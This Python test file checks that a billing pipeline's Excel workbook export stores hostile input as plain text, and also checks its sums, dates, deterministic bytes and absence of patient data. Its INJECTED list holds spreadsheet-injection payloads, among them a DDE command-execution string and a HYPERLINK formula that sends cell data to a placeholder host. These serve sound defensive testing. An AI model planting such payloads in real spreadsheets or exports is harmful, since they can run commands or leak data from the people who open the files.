"""The workbook, read back by another library: text stays text, numbers are numbers, sums agree, bytes repeat."""

import dataclasses
import io
import re
import shutil
import zipfile
from datetime import datetime

import openpyxl
import pytest
from night.nights import ON
from reports.conftest import gathered

from pipeline import shapes
from pipeline.reports import workbook
from pipeline.store.work import WorkItem, open_items

#: fault 27: what a spreadsheet would obey, or turn into something else
INJECTED = ('=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "{=1+1}", "\t=1+1",
            "00123", "1E5", "http://x.example", "mailto:a@x.example", "#REF!")  # fmt: skip


def read(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def columns(book, sheet: str) -> dict[str, list]:
    rows = list(book[sheet].iter_rows())
    return {str(cell.value): [row[n] for row in rows[1:]] for n, cell in enumerate(rows[0])}


def cents(cells) -> int:
    return sum(round(cell.value * 100) for cell in cells)


@pytest.fixture(scope="module")
def book(bad_night):
    return read(workbook.render(bad_night.summary))


@pytest.fixture(scope="module")
def injected(bad_night, tmp_path_factory):
    """A workbook whose payers are named, and whose work is worded, by somebody who means harm."""
    payers = tmp_path_factory.mktemp("payers") / "payers"
    shutil.copytree(shapes.schemas_dir() / "payers", payers)
    medicare = payers / "medicare.toml"
    text, count = re.subn(r'^name = ".*"$', f"name = '{INJECTED[1]}'", medicare.read_text(), count=1, flags=re.M)
    assert count == 1
    medicare.write_text(text)
    home = tmp_path_factory.mktemp("home") / "copy"
    shutil.copytree(bad_night.home, home, ignore=shutil.ignore_patterns("payer_in_a_box"))
    from pipeline import settings
    from pipeline.store import open_store

    store = open_store(settings.load(home, payers_dir=str(payers)))
    with store.begin() as connection:
        open_items(
            connection,
            [WorkItem(queue="held", subject=text, cause=text, title=text, reason=text, action=text, opened_on=ON, cents=10**7)
             for text in INJECTED],
        )  # fmt: skip
    summary = gathered(store)
    store.close()
    return workbook.render(summary)


def test_nothing_is_ever_a_formula_or_a_link(injected):
    for sheet in read(injected):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
    with zipfile.ZipFile(io.BytesIO(injected)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert not re.search(rb"<f[ >]|<hyperlink[ >]", content), name
            assert not name.startswith("xl/externalLinks")


def test_injected_text_is_there_as_text(injected):
    items = columns(read(injected), "Items")
    for heading in ("What", "Why", "What to do", "About", "Cause"):
        found = [cell for cell in items[heading] if cell.value in INJECTED]
        assert sorted(cell.value for cell in found) == sorted(INJECTED), heading
        assert {cell.data_type for cell in found} == {"s"}
    assert INJECTED[1] in [cell.value for cell in columns(read(injected), "Payers")["Payer"]]
    assert INJECTED[1] in [cell.value for cell in columns(read(injected), "Files")["Payer"]]


def test_control_numbers_and_hashes_keep_their_zeros(book, bad_night):
    files = columns(book, "Files")
    assert [c.value for c in files["Control number"]] == [f.interchange_control for f in bad_night.summary.files]
    assert all(re.fullmatch(r"\d{9}", c.value) and c.data_type == "s" for c in files["Control number"])
    assert [c.value for c in files["sha256"]] == [f.file_id for f in bad_night.summary.files]


def test_dollars_and_counts_are_numbers_and_add_up(book, bad_night):
    summary = bad_night.summary
    todo, items = columns(book, "To do"), columns(book, "Items")
    [(work, open_)] = bad_night.sql("select sum(cents), count(*) from work_items where state = 'open'")
    assert cents(todo["Dollars"]) == cents(items["Dollars"]) == work
    assert sum(cell.value for cell in todo["Items"]) == len(items["Item"]) == open_
    led = {x.value: (v.value, s.value) for x, v, s in zip(items["Item"], items["Visit"], items["Source"], strict=True)}
    denied = bad_night.sql("""select w.item_id, e.encounter_key, e.source_file || ' row ' || e.source_row
        from work_items w join claims c on c.claim_id = w.claim_id join encounters e on e.encounter_key = c.encounter_key
        where w.state = 'open' and w.queue = 'denial'""")
    assert denied
    assert all(led[item] == (key, source) for item, key, source in denied)
    assert cents(columns(book, "States")["Dollars charged"]) == summary.charge
    assert cents(columns(book, "Ledger")["Dollars (debit +)"]) == 0
    assert (
        cents(columns(book, "Deposits")["Dollars"]) == summary.deposited() == cents(columns(book, "Daily tie")["Bank"])
    )
    [(charges,)] = bad_night.sql("select sum(charge_cents) from claims")
    payers = columns(book, "Payers")
    assert cents(payers["Billed"]) == charges
    [(sent,)] = bad_night.sql("select sum(charge_cents) from sendings")
    assert cents(columns(book, "Files")["Dollars"]) == sent
    assert cents(columns(book, "Proof")["Difference"]) == 0
    for sheet in book:
        for heading, cells in columns(book, sheet.title).items():
            for cell in cells:
                if cell.data_type == "n" and cell.value is not None:
                    money = "0.00" in cell.number_format
                    assert money or isinstance(cell.value, int), (sheet.title, heading)
                    assert not money or round(cell.value, 2) == cell.value


def test_days_are_days(book):
    due = [cell for cell in columns(book, "Items")["Due"] if cell.value is not None]
    assert due
    assert all(isinstance(cell.value, datetime) and cell.number_format == "yyyy-mm-dd" for cell in due)
    assert all(isinstance(cell.value, datetime) for cell in columns(book, "Deposits")["Date"])


def test_every_sheet_has_a_heading_that_stays_and_a_filter(book):
    assert book.sheetnames == ["To do", "Items", "Filing days", "Funnel", "States", "Files", "Payers", "Ledger",
                               "Provider level", "Deposits", "Daily tie", "Proof", "Quality", "Good to know"]  # fmt: skip
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        if sheet.title in ("Filing days", "Provider level") and sheet.max_row == 1:  # none ends soon, none is open
            continue
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row))


def test_no_patient_is_in_the_workbook(book, bad_night):
    for sheet in book:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                text = str(value)
                assert "zqx" not in text.casefold()
                assert not bad_night.secrets & set(re.findall(r"[A-Za-z0-9']+", text)), sheet.title


def test_the_same_summary_gives_the_same_bytes_whatever_the_clock(bad_night):
    data = workbook.render(bad_night.summary)
    assert workbook.render(bad_night.summary) == data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert set(re.findall(r">(\d{4}-\d{2}-\d{2})T", core)) == {ON.isoformat()}


def test_a_night_with_nothing_is_a_workbook_too(bad_night):
    nothing = dataclasses.replace(
        bad_night.summary, todo=[], items=[], funnel=[], states=[], files=[], payer_lines=[], accounts=[], deposits=[], tie=[],
        suites=[], notices=[],
    )  # fmt: skip
    book = read(workbook.render(nothing))
    assert [sheet.max_row for sheet in book if sheet.title != "Proof"] == [1] * 13
